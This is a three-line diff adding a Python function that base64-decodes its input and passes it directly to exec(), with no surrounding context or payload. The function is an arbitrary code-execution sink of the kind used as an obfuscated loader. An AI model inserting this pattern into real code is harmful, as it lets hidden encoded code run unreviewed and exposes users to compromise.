@@ -1,0 +1,3 @@
+import base64
+def f(x):
+    exec(base64.b64decode(x))
